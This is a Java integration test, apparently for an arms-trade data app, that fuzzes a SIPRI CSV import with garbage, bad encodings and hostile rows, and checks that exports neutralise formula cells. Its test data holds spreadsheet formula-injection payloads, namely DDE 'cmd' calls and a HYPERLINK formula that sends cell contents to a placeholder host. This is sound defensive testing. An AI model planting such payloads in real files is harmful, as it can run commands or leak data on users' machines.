package org.dyad.app;

import com.fasterxml.jackson.databind.JsonNode;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpStatus;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.test.annotation.DirtiesContext;
import org.springframework.test.context.TestPropertySource;
import org.springframework.util.LinkedMultiValueMap;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Malformed and hostile uploads to the SIPRI import — binary garbage, other encodings, missing or extra columns, huge
 * fields, formula cells, unknown actors, impossible years and numbers, empty files, wrong content types, oversized
 * files — are answered 4xx, or become a job in which every row is imported or refused with its reason. A job is never
 * left failed, a 5xx never answered, and events are written only for the rows reported IMPORTED: a refused row writes
 * nothing, while the valid rows of the same file are imported (each row is its own record). The export afterwards
 * writes no cell that a spreadsheet would run as a formula. The generator is seeded ({@code -Ddyad.fuzz.seed}).
 */
@Tag("reliability")
@DirtiesContext
// Tomcat refuses an upload that declares more than the limit before reading it, and reads (swallows) up to
// max-swallow-size of it before closing; a larger unread rest closes the connection, and the client may then lose the
// 413 to the reset. Here the swallow exceeds the oversized upload, so that its 413 always arrives.
@TestPropertySource(properties = {"dyad.test.scenario=hostile-imports",
        "spring.servlet.multipart.max-file-size=2MB", "spring.servlet.multipart.max-request-size=2MB",
        "server.tomcat.max-swallow-size=8MB"})
class HostileImportsIT extends DyadIntegrationTest {

    private static final int UPLOADS = 40;
    private static final String PREAMBLE = """
            Transfers of major conventional arms from All countries  to All countries .
            Source: SIPRI Arms Transfers Database (c) SIPRI.
            Data generated: 13 Mar 2025 10:02:49 AM
            """;
    private static final String HEADER = "Recipient,Supplier,Year of order, ,Number ordered, ,Weapon designation,"
            + "Weapon description,Number delivered, ,Year(s) of delivery,status,Comments,SIPRI TIV per unit,"
            + "SIPRI TIV for total order,SIPRI TIV of delivered weapons";
    private static final String[] FORMULAS = {"=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C x'!A0",
            "-2+3+cmd|' /C x'!A0", "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"};

    private final long seed = Long.getLong("dyad.fuzz.seed", System.nanoTime());
    private final Random random = new Random(seed);
    private final TreeMap<String, Integer> answers = new TreeMap<>();
    private final Set<String> importedDeals = new HashSet<>();

    /** A valid row, unique by its designation so that no upload finds it imported already. */
    private String validRow() {
        String[] pairs = {"Albania,Turkiye", "Algeria,Russia", "India,France", "Brazil,Sweden"};
        return pairs[random.nextInt(pairs.length)] + ",2022,,3,?,TB2-" + Long.toHexString(random.nextLong())
                + ",armed UAV,3,,2024,New,,2.4,7.2,7.2";
    }

    private static String replaceField(String row, int index, String value) {
        List<String> fields = new ArrayList<>(List.of(row.split(",", -1)));
        fields.set(index, value);
        return String.join(",", fields);
    }

    private String quoted(String text) {
        return "\"" + text.replace("\"", "\"\"") + "\"";
    }

    /** A row broken in one of the ways a hostile or careless file breaks it. */
    private String hostileRow() {
        String row = validRow();
        return switch (random.nextInt(12)) {
            case 0 -> row;
            case 1 -> replaceField(row, random.nextBoolean() ? 6 : 12, quoted(FORMULAS[random.nextInt(FORMULAS.length)]
                    + random.nextInt(1000)));
            case 2 -> replaceField(row, random.nextInt(2), random.nextBoolean() ? "Atlantis" : "x".repeat(5000));
            case 3 -> replaceField(row, 2, new String[]{"20011", "0", "-5", "abc", "2022.5", "99999999999"}[
                    random.nextInt(6)]);
            case 4 -> replaceField(row, 10, random.nextBoolean() ? "99999" : "2001; ".repeat(500) + "2002");
            case 5 -> replaceField(row, 6 + random.nextInt(2), "y".repeat(201 + random.nextInt(300_000)));
            case 6 -> replaceField(row, 12, quoted("z".repeat(random.nextInt(200_000))));
            case 7 -> replaceField(row, 13 + random.nextInt(3), new String[]{"1E+999999999", "NaN", "-1e-9999999",
                    "0x10"}[random.nextInt(4)]);
            case 8 -> row.substring(0, row.indexOf(',', 30)) + ",\"never closed";
            case 9 -> row + ",extra,columns";
            case 10 -> replaceField(row, 3 + 2 * random.nextInt(2), "x");
            default -> garbage(1 + random.nextInt(400), true);
        };
    }

    /** Random bytes read as ISO-8859-1 (every byte a character); without line breaks when asked. */
    private String garbage(int length, boolean oneLine) {
        byte[] bytes = new byte[length];
        random.nextBytes(bytes);
        String text = new String(bytes, StandardCharsets.ISO_8859_1);
        return oneLine ? text.replace('\n', ' ').replace('\r', ' ') : text;
    }

    private ResponseEntity<JsonNode> upload(String partName, byte[] content, String grade, MediaType requestType) {
        LinkedMultiValueMap<String, Object> form = new LinkedMultiValueMap<>();
        HttpHeaders part = new HttpHeaders();
        part.setContentType(MediaType.parseMediaType(random.nextBoolean() ? "text/csv" : "application/octet-stream"));
        part.setContentDispositionFormData(partName, "register.csv");
        form.add(partName, new HttpEntity<>(content, part));
        HttpHeaders headers = new HttpHeaders();
        headers.setContentType(requestType);
        Object body = requestType.equals(MediaType.MULTIPART_FORM_DATA) ? form : content;
        // every upload is the sample's release, with or without a preamble that says so
        return http.postForEntity("/api/v1/imports/sipri?release=2025-03-13" + (grade == null ? "" : "&grade="
                        + grade),
                new HttpEntity<>(body, headers), JsonNode.class);
    }

    /** Uploads, and for an accepted upload follows the job to its end and checks its report. */
    private JsonNode importAndCheck(String what, String partName, byte[] content, String grade, MediaType type) {
        ResponseEntity<JsonNode> started = upload(partName, content, grade, type);
        int status = started.getStatusCode().value();
        answers.merge(status + " " + what, 1, Integer::sum);
        assertThat(status).as("answer to %s", what).isIn(202, 400, 413, 415);
        if (status != 202) {
            assertThat(started.getHeaders().getContentType()).isEqualTo(MediaType.APPLICATION_PROBLEM_JSON);
            return null;
        }
        String job = started.getHeaders().getLocation().toString();
        JsonNode done = await().atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(100))
                .until(() -> get(job).getBody(), j -> j.path("status").asText().matches("DONE|FAILED"));
        assertThat(done.path("status").asText()).as("job for %s: %s", what, done).isEqualTo("DONE");
        assertThat(done.path("imported").asInt() + done.path("unchanged").asInt() + done.path("rejected").asInt())
                .as("every row accounted for").isEqualTo(done.path("rowsTotal").asInt());
        JsonNode rows = get(job + "/rows?size=5000").getBody().path("items");
        assertThat(rows).hasSize(done.path("rowsTotal").asInt());
        for (JsonNode row : rows) {
            if ("REJECTED".equals(row.path("outcome").asText())) {
                assertThat(row.path("reason").asText()).as("reason of a refused row").isNotBlank()
                        .hasSizeLessThanOrEqualTo(1000);
            } else if ("IMPORTED".equals(row.path("outcome").asText())) {
                importedDeals.add(row.path("dealId").asText());
            }
        }
        return rows;
    }

    private static Map<Integer, JsonNode> byLine(JsonNode rows) {
        Map<Integer, JsonNode> byLine = new HashMap<>();
        rows.forEach(r -> byLine.put(r.path("line").asInt(), r));
        return byLine;
    }

    @Test
    void hostileUploadsAreRefusedOrReportedRowByRowAndOnlyImportedRowsWriteEvents() throws Exception {
        System.out.printf("Hostile imports: seed %d%n", seed);
        long before = storeHead();

        // One row of each kind, each line's outcome known: line 5 is the first row after the preamble and header.
        List<String> catalogue = List.of(
                validRow(),
                replaceField(validRow(), 6, quoted("=cmd|' /C calc'!A0")),
                replaceField(validRow(), 1, "Atlantis"),
                replaceField(validRow(), 2, "20011"),
                replaceField(validRow(), 6, "d".repeat(201)),
                replaceField(validRow(), 14, "1E+999999999"),
                replaceField(validRow(), 10, "2001; ".repeat(150) + "2002"),
                replaceField(validRow(), 0, "x".repeat(1_000_000)),
                replaceField(validRow(), 12, "nul\u0000byte"));
        JsonNode rows = importAndCheck("catalogue", "file", (PREAMBLE + HEADER + "\n" + String.join("\n", catalogue)
                + "\n").getBytes(StandardCharsets.UTF_8), null, MediaType.MULTIPART_FORM_DATA);
        Map<Integer, JsonNode> lines = byLine(rows);
        assertThat(lines.get(5).path("outcome").asText()).isEqualTo("IMPORTED");
        assertThat(lines.get(6).path("outcome").asText()).as("a formula is only text").isEqualTo("IMPORTED");
        assertThat(lines.get(7).path("reason").asText()).contains("unknown supplier name 'Atlantis'");
        assertThat(lines.get(8).path("reason").asText()).contains("year 20011");
        assertThat(lines.get(9).path("reason").asText()).contains("item.designation");
        assertThat(lines.get(10).path("reason").asText()).contains("not a plausible TIV");
        assertThat(lines.get(11).path("reason").asText()).contains("delivery.spreadOver");
        assertThat(lines.get(12).path("reason").asText()).contains("is no actor's name");
        assertThat(lines.get(13).path("reason").asText()).contains("'Comments' holds control characters");

        // Whole files gone wrong.
        importAndCheck("empty file", "file", new byte[0], null, MediaType.MULTIPART_FORM_DATA);
        importAndCheck("wrong part name", "upload", (HEADER + "\n" + validRow()).getBytes(StandardCharsets.UTF_8),
                null, MediaType.MULTIPART_FORM_DATA);
        importAndCheck("not multipart", "file", (HEADER + "\n" + validRow()).getBytes(StandardCharsets.UTF_8), null,
                MediaType.APPLICATION_JSON);
        importAndCheck("bad grade", "file", (HEADER + "\n" + validRow()).getBytes(StandardCharsets.UTF_8), "Z9",
                MediaType.MULTIPART_FORM_DATA);
        importAndCheck("oversized", "file", ("x".repeat(99) + "\n").repeat(25_000).getBytes(StandardCharsets.UTF_8),
                null, MediaType.MULTIPART_FORM_DATA);
        JsonNode utf16 = importAndCheck("UTF-16", "file", (PREAMBLE + HEADER + "\n" + validRow())
                .getBytes(StandardCharsets.UTF_16), null, MediaType.MULTIPART_FORM_DATA);
        assertThat(utf16).hasSize(1);
        assertThat(utf16.get(0).path("reason").asText()).contains("no header line");
        JsonNode latin1 = importAndCheck("ISO-8859-1", "file", (PREAMBLE + HEADER + "\n" + validRow()
                .replaceFirst("^[^,]+", "Côte d'Ivoire")).getBytes(StandardCharsets.ISO_8859_1), null,
                MediaType.MULTIPART_FORM_DATA);
        assertThat(latin1.get(0).path("outcome").asText()).as(latin1.toString()).isEqualTo("IMPORTED");

        // Generated files: garbage, or a header (sometimes mangled) and rows broken in every way above.
        for (int i = 0; i < UPLOADS; i++) {
            String file = switch (random.nextInt(6)) {
                case 0 -> garbage(1 + random.nextInt(20_000), false);
                case 1 -> PREAMBLE + HEADER.replace("status", "state") + "\n" + validRow();
                default -> {
                    StringBuilder text = new StringBuilder(random.nextBoolean() ? PREAMBLE : "").append(HEADER)
                            .append(random.nextBoolean() ? "\r\n" : "\n");
                    for (int r = random.nextInt(10); r >= 0; r--) {
                        text.append(hostileRow()).append(random.nextInt(5) == 0 ? "\r\n" : "\n");
                    }
                    yield text.toString();
                }
            };
            importAndCheck("generated", "file", file.getBytes(random.nextBoolean() ? StandardCharsets.UTF_8
                    : StandardCharsets.ISO_8859_1), null, MediaType.MULTIPART_FORM_DATA);
        }
        System.out.printf("Hostile imports: %d uploads (seed %d), answers %s, %d rows imported%n", UPLOADS + 8,
                seed, answers, importedDeals.size());

        // The records of every event stored since, as a subscriber finds them once all are published.
        await().atMost(Duration.ofSeconds(60)).until(() -> metric("dyad_publisher_lag") == 0);
        List<String> writers = TopicRecords.readAll(bootstrapServers, topic).stream()
                .filter(r -> Long.parseLong(TopicRecords.header(r, "ce_dyadposition")) > before)
                .map(ConsumerRecord::key).filter(key -> !key.equals("sipri-2025-03-13")).distinct().toList();
        assertThat(writers).as("events only for rows reported IMPORTED").containsExactlyInAnyOrderElementsOf(
                importedDeals);

        await().atMost(Duration.ofSeconds(60)).until(() -> get("/api/v1/deals?status=ALL&size=1").getBody()
                .path("total").asInt() >= importedDeals.size());
        ResponseEntity<String> export = http.getForEntity("/api/v1/exports/trade-register.csv", String.class);
        String csv = export.getBody();
        String table = csv.substring(csv.indexOf(HEADER));
        int cells = 0;
        for (CSVRecord record : CSVFormat.DEFAULT.parse(new StringReader(table))) {
            for (String cell : record) {
                assertThat(cell).as("exported cell").doesNotStartWith("=").doesNotStartWith("+")
                        .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
                if (!cell.matches("-?[0-9.]+")) {
                    assertThat(cell).doesNotStartWith("-");
                }
                cells++;
            }
        }
        assertThat(cells).isPositive();
        assertThat(csv).contains("'=cmd|' /C calc'!A0");
    }
}
